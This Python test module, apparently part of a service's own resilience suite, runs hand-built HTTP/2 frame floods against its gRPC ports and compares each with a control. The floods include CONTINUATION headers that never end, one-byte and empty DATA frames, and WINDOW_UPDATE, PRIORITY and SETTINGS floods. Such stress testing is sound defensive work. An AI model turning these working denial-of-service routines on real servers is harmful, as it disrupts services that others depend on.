"""Attacks on gRPC ports by the frames of HTTP/2, written by hand: as small, and as many, as its form allows.

Each has a control that sends its bytes in few frames, in the same way, on as many connections.
"""

import select
import socket
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

from tests.attacks.grpc_edge import GENERATE, probed
from tests.attacks.http_requests import split
from tests.attacks.victim import Attack, Figures, Victim, attack

SENDERS_PER_PORT = 8
PAUSE_SECONDS = 0.05
"""Before a connection is opened anew."""
MESSAGE_BYTES = 2**22
"""Of the message that DATA frames are said to be of, which a service would take."""
BYTES_PER_SECOND = 2**20
"""Of frames that no window counts, on each connection: 200 Mbit/s together. A loopback that is filled takes both cores
of this machine, whatever it is filled with."""
FRAME_BYTES = 2**14
"""Of the largest frames."""
PART_BYTES = 2**16
"""What is sent at once, about."""
WINDOW_BYTES = 2**16 - 1
"""What may be sent before the other end says that it takes more, of a connection and of a stream."""
VALUE_BYTES = 10_000_000
"""Of the value of a header that never ends."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (*range(5), *range(6, 10))
END_STREAM, END_HEADERS, ACK = 1, 4, 1

RUN_TARGET_SESSIONS = "/draftwire.v1.VerifierService/RunTargetSessions"
RUN_DRAFT_SESSIONS = "/draftwire.v1.DrafterService/RunDraftSessions"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def literal(name: str, value: str) -> bytes:
    """Returns a header of HPACK that refers to no table; both texts are shorter than 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def headers_of(path: str) -> bytes:
    """Returns the header block of a call."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(literal(name, value) for name, value in fields.items())


def number_of_hpack(value: int, prefix_bits: int) -> bytes:
    """Returns an integer that does not fit into its prefix."""
    most = 2**prefix_bits - 1
    encoded, rest = [most], value - most
    while rest >= 128:
        encoded.append(rest % 128 + 128)
        rest //= 128
    return bytes([*encoded, rest])


class Frames:
    """A connection whose client writes its own frames."""

    def __init__(self, raw: socket.socket) -> None:
        """Begins HTTP/2."""
        self.raw = raw
        self.windows = {0: WINDOW_BYTES}
        """What may be sent, of the connection and of each stream."""
        self.is_reset = False
        """Whether the other end has ended a stream."""
        self._unread = b""
        raw.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def call(self, stream: int, path: str, flags: int = END_HEADERS) -> None:
        self.windows[stream] = WINDOW_BYTES
        self.raw.sendall(frame(HEADERS, flags, stream, headers_of(path)))

    def send_data(self, stream: int, data: bytes, frame_bytes: int) -> int:
        """Sends as much data as may be sent now in frames of so many bytes; returns how many bytes those frames had."""
        may_send = min(self.windows[0], self.windows[stream], len(data))
        parts = (data[start : min(start + frame_bytes, may_send)] for start in range(0, may_send, frame_bytes))
        wire = b"".join(frame(DATA, 0, stream, part) for part in parts)
        self.raw.sendall(wire)
        self.windows[0] -= may_send
        self.windows[stream] -= may_send
        self.read(0.0 if may_send else 0.05)
        return len(wire)

    def read(self, wait_s: float = 0.0) -> None:
        """Reads what has arrived.

        Raises:
            ConnectionError: the other end has ended the connection.
        """
        while select.select([self.raw], [], [], wait_s)[0]:
            data, wait_s = self.raw.recv(2**16), 0.0
            if not data:
                raise ConnectionResetError("closed by the other end")
            self._unread += data
            while len(self._unread) >= 9 + (length := int.from_bytes(self._unread[:3])):
                header, payload = self._unread[:9], self._unread[9 : 9 + length]
                self._unread = self._unread[9 + length :]
                self._take(header[3], header[4], int.from_bytes(header[5:9]), payload)

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == GOAWAY:
            raise ConnectionResetError("sent away by the other end")
        if kind == WINDOW_UPDATE:
            self.windows[stream] = self.windows.get(stream, 0) + int.from_bytes(payload)
        elif kind in (SETTINGS, PING) and not flags & ACK:
            self.raw.sendall(frame(kind, ACK, 0, payload if kind == PING else b""))
        elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
            self.is_reset = True


def on_connections(use: Callable[[Frames, str, float], int]) -> Attack:
    """Returns what opens connections to all gRPC ports, several at a time, one after the other.

    Args:
        use: of one connection and the path of a method there, until a time of `time.monotonic`; returns how many bytes
            were sent.
    """

    def send_for(address: str, path: str, until: float) -> int:
        sent = 0
        while time.monotonic() < until:
            with suppress(OSError), socket.create_connection(split(address), timeout=1.0) as raw:
                raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                sent += use(Frames(raw), path, until)
            time.sleep(PAUSE_SECONDS)
        return sent

    def run(victim: Victim) -> Figures:
        ports = {
            victim.gateway: GENERATE,
            victim.verifier: RUN_TARGET_SESSIONS,
            victim.drafter: RUN_DRAFT_SESSIONS,
        }
        until = time.monotonic() + victim.seconds
        with probed(victim) as figures, ThreadPoolExecutor(SENDERS_PER_PORT * len(ports)) as threads:
            sending = [
                threads.submit(send_for, address, path, until)
                for address, path in ports.items()
                for _ in range(SENDERS_PER_PORT)
            ]
            figures["mib"] = sum(one.result() for one in sending) / 2**20
        return figures

    return run


def data_sender(frame_bytes: int) -> Attack:
    """Returns what sends a large message in DATA frames of so many bytes."""
    part = b" " * (PART_BYTES // (9 + frame_bytes) * frame_bytes)

    def use(connection: Frames, path: str, until: float) -> int:
        connection.call(1, path)
        sent = connection.send_data(1, b"\0" + MESSAGE_BYTES.to_bytes(4), frame_bytes)
        with suppress(OSError):
            while time.monotonic() < until and not connection.is_reset:
                sent += connection.send_data(1, part, frame_bytes)
        return sent

    return on_connections(use)


def frame_sender(one: bytes, *, first: bytes = b"", reads: bool = True) -> Attack:
    """Returns what begins a call, and then sends the same frame again and again.

    Args:
        one: the frame.
        first: sent before it, in the place of the call.
        reads: whether it reads what the other end says.
    """
    part = one * max(1, PART_BYTES // len(one))

    def use(connection: Frames, path: str, until: float) -> int:
        sent = 0
        if first:
            connection.raw.sendall(first)
        else:
            connection.call(1, path)
        with suppress(OSError):
            while time.monotonic() < until and not connection.is_reset:
                connection.raw.sendall(part)
                sent += len(part)
                if reads:
                    connection.read()
                time.sleep(len(part) / BYTES_PER_SECOND)
        return sent

    return on_connections(use)


LARGE_DATA = data_sender(FRAME_BYTES)
UNKNOWN = 0xF0
"""A kind of frame that means nothing to anybody: it is to be skipped, and no window counts it."""
LARGE_FRAMES = frame_sender(frame(UNKNOWN, 0, 0, bytes(FRAME_BYTES)))
"""They go at the rate of those that they are compared with; DATA frames would wait for windows."""
ENDLESS_HEADERS = b"\x00\x01x" + number_of_hpack(VALUE_BYTES, 7)
"""The begin of a header block."""


def endless_headers(frame_bytes: int) -> Attack:
    """Returns what sends a header that never ends in CONTINUATION frames of so many bytes."""
    first = frame(HEADERS, 0, 1, ENDLESS_HEADERS)
    return frame_sender(frame(CONTINUATION, 0, 1, b"x" * frame_bytes), first=first)


@attack("anyone", control=LARGE_DATA)
def data_frames_of_one_byte(victim: Victim) -> Figures:
    """A message in as many frames as it has bytes."""
    return data_sender(1)(victim)


@attack("anyone", control=LARGE_DATA)
def data_frames_of_two_dozen_bytes(victim: Victim) -> Figures:
    """Frames that are just too large to be put together where they are kept."""
    return data_sender(25)(victim)


@attack("anyone", control=LARGE_FRAMES)
def empty_data_frames(victim: Victim) -> Figures:
    """Frames without data, which no window counts."""
    return frame_sender(frame(DATA, 0, 1))(victim)


@attack("anyone", control=endless_headers(FRAME_BYTES))
def continuations_of_one_byte(victim: Victim) -> Figures:
    """Headers that never end, in frames of one byte each."""
    return endless_headers(1)(victim)


@attack("anyone", control=endless_headers(FRAME_BYTES))
def empty_continuations(victim: Victim) -> Figures:
    return endless_headers(0)(victim)


@attack("anyone", control=LARGE_FRAMES)
def window_updates_of_one_byte(victim: Victim) -> Figures:
    return frame_sender(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4)))(victim)


@attack("anyone", control=LARGE_FRAMES)
def priorities(victim: Victim) -> Figures:
    """Frames that change the priority of a stream, which means nothing any more."""
    return frame_sender(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"))(victim)


@attack("anyone", control=LARGE_FRAMES)
def settings_without_end(victim: Victim) -> Figures:
    """Frames that have to be acknowledged, of which nothing is read."""
    return frame_sender(frame(SETTINGS, 0, 0), reads=False)(victim)
